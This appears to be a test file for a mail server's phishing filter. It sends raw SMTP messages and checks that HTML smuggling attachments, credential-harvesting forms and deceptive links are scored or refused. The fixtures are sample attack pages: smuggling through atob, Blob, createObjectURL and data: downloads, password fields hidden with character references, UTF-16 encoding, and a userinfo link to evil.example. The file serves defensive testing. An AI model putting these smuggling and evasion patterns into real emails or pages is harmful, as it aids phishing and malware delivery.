// What carries phishing, over the wire (a client on 127.0.0.x, raw SMTP). HTML attachments: a page sent
// as a file scores ATTACH_HTML; one that decodes hidden content with a script (HTML smuggling) or asks for
// a password also ATTACH_HTML_ACTIVE, and with that kind's policy set to "reject" it is refused during
// DATA; the message's own HTML body, scripts and all, is not an attachment. Deceptive links: to a bare IP
// address in hex, and with a user part that shows a trusted name before the real host.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { attachmentPart } from '../helpers/mime.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { transaction } from '../helpers/smtp-client.ts';
import { newestVerdict } from './fixture.ts';

const ALICE = 'alice@html.test';
let t: TestServer;

before(async () => {
  t = await startTestServer({
    configure(c) {
      c.listeners.smtp.enabled = true;
    },
  });
  await t.app.directory.addDomain('html.test');
  await t.app.directory.addAccount(ALICE, 'html-secret-pw');
});
after(() => t?.stop());

function message(attachment: { name: string; type: string; content: string | Buffer } | null): string {
  const id = `${Date.now()}.${Math.random()}@outside.test`;
  const lines = [
    'From: Billing <billing@outside.test>',
    `To: ${ALICE}`,
    'Subject: Your statement',
    'Date: Sun, 06 Dec 2026 10:00:00 +0000',
    `Message-ID: <${id}>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/html',
    '',
    '<p>Your statement is attached.</p><script>var x = location.href;</script>',
  ];
  if (attachment) lines.push(...attachmentPart(attachment.name, attachment.type, attachment.content));
  lines.push('--b--', '');
  return lines.join('\r\n');
}

const send = (data: string, server = t) =>
  transaction(server.ports.smtp, {
    ip: '127.0.0.94',
    helo: 'mail.outside.test',
    from: 'billing@outside.test',
    to: [ALICE],
    data,
  });

const symbols = async () => Object.keys((await newestVerdict(t, ALICE)).symbols).filter((s) => s.startsWith('ATTACH'));
const SMUGGLED =
  '<html><body><script>document.write(atob("PGZvcm0gYWN0aW9uPSJodHRwczovL3gudGVzdCI+"));</script></body></html>';

test('an HTML file scores; an active one more; the HTML body is no attachment', async () => {
  assert.equal((await send(message(null))).code, 250);
  assert.deepEqual(await symbols(), []);
  assert.equal((await send(message({ name: 'statement.html', type: 'text/html', content: '<p>Paid.</p>' }))).code, 250);
  assert.deepEqual(await symbols(), ['ATTACH_HTML']);
  assert.equal(
    (await send(message({ name: 'statement.htm', type: 'application/octet-stream', content: SMUGGLED }))).code,
    250,
  );
  assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE']);
  const login = '<form action="https://x.test/p"><input name="user"><input type="password" name="pw"></form>';
  assert.equal((await send(message({ name: 'secure-login.svg', type: 'image/svg+xml', content: login }))).code, 250);
  assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE']);
});

test('with html_active = "reject", an active HTML attachment is refused during DATA', async () => {
  const strict = await startTestServer({
    configure(c) {
      c.listeners.smtp.enabled = true;
      c.spam.attachments.html_active = 'reject';
    },
  });
  try {
    await strict.app.directory.addDomain('html.test');
    await strict.app.directory.addAccount(ALICE, 'html-secret-pw');
    const r = await send(message({ name: 'statement.htm', type: 'text/html', content: SMUGGLED }), strict);
    assert.equal(r.code, 550, r.raw);
    assert.match(r.raw, /5\.7\.1 Attachment refused by policy: statement\.htm/);
  } finally {
    await strict.stop();
  }
});

test('links to a bare IP address or with a user part before the host', async () => {
  const html = [
    'From: Billing <billing@outside.test>',
    `To: ${ALICE}`,
    'Subject: Verify your account',
    'Date: Sun, 06 Dec 2026 10:00:00 +0000',
    `Message-ID: <${Date.now()}.links@outside.test>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html',
    '',
    '<p><a href="http://0xC0000207/verify">Verify</a> or <a href="https://www.bank.example@evil.example/">sign in</a></p>',
    '',
  ].join('\r\n');
  assert.equal((await send(html)).code, 250);
  const names = Object.keys((await newestVerdict(t, ALICE)).symbols);
  assert.ok(names.includes('PHISH_LINK_TO_IP'), names.join(' '));
  assert.ok(names.includes('PHISH_LINK_USERINFO'), names.join(' '));
});

test('a password input written with character references (type="pass&#119;ord") is still a credential form', async () => {
  // A browser decodes character references in attribute values (HTML, attribute value states), so the
  // page shows a password field; read as written it was no form at all.
  const hidden =
    '<form action="https://x.test/p"><input name="user"><input type="pass&#x77;ord" name="&#112;w"></form>';
  assert.equal((await send(message({ name: 'login.html', type: 'text/html', content: hidden }))).code, 250);
  assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE']);
  const body = [
    'From: Billing <billing@outside.test>',
    `To: ${ALICE}`,
    'Subject: Verify your account',
    'Date: Sun, 06 Dec 2026 10:00:00 +0000',
    `Message-ID: <${Date.now()}.form@outside.test>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html',
    '',
    '<form action="https://x.test/p"><input type="&#80;ASSWORD" name="secret"></form>',
    '',
  ].join('\r\n');
  assert.equal((await send(body)).code, 250);
  assert.ok('PHISH_CREDENTIAL_FORM' in (await newestVerdict(t, ALICE)).symbols);
  // An ordinary search form is none.
  assert.equal((await send(body.replace('&#80;ASSWORD', 's&#101;arch'))).code, 250);
  assert.ok(!('PHISH_CREDENTIAL_FORM' in (await newestVerdict(t, ALICE)).symbols));
});

test('HTML smuggling without atob and a login page without a form tag are active attachments', async () => {
  // What Microsoft describes of HTML smuggling (Mekotio, QakBot, NOBELIUM's EnvyScout): a Blob saved
  // through createObjectURL or msSaveOrOpenBlob, a data: URL offered for download; and a login page whose
  // script posts the password field itself (fetch, $.ajax), with no <form> at all.
  const pages = [
    '<script>var b=new Blob([new Uint8Array([80,75,3,4])]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.zip";a.click();</script>',
    '<script>window.navigator.msSaveOrOpenBlob(new Blob([d]), "invoice.iso")</script>',
    '<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="invoice.exe">Download</a>',
    '<iframe src="data:text/html;base64,PHA+aGk8L3A+"></iframe>',
    '<input type="email" id="e"><input type="password" id="p"><button onclick="go()">Sign in</button><script>function go(){fetch("https://x.test/p",{method:"POST",body:p.value})}</script>',
  ];
  for (const content of pages) {
    assert.equal((await send(message({ name: 'invoice.html', type: 'text/html', content }))).code, 250);
    assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE'], content);
  }
  // A saved report with an inline picture is only an HTML file.
  const report = '<h1>Report</h1><img src="data:image/png;base64,iVBORw0KGgo="><table><tr><td>1</td></tr></table>';
  assert.equal((await send(message({ name: 'report.html', type: 'text/html', content: report }))).code, 250);
  assert.deepEqual(await symbols(), ['ATTACH_HTML']);
});

test('an HTML attachment in UTF-16 (a byte order mark, which a browser obeys) is read as the browser reads it', async () => {
  const utf16 = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);
  const page = utf16(`<html><body>${SMUGGLED.slice('<html><body>'.length)}`);
  assert.equal((await send(message({ name: 'invoice.html', type: 'text/html', content: page }))).code, 250);
  assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE']);
});

test('a stylesheet or a font given as a data: URL is no smuggling; a data: download spelt with entities is', async () => {
  const styled =
    '<html><head><link rel="stylesheet" href="data:text/css;base64,Ym9keXtjb2xvcjpyZWR9"><style>@font-face{src:url(data:font/woff2;base64,d09GMgAB)}</style></head><body><p>Report</p></body></html>';
  assert.equal((await send(message({ name: 'report.html', type: 'text/html', content: styled }))).code, 250);
  assert.deepEqual(await symbols(), ['ATTACH_HTML']);
  const entities = '<a href="&#100;ata:application/zip;base64,UEsDBA==" download="invoice.zip">Download</a>';
  assert.equal((await send(message({ name: 'invoice.html', type: 'text/html', content: entities }))).code, 250);
  assert.deepEqual((await symbols()).sort(), ['ATTACH_HTML', 'ATTACH_HTML_ACTIVE']);
});
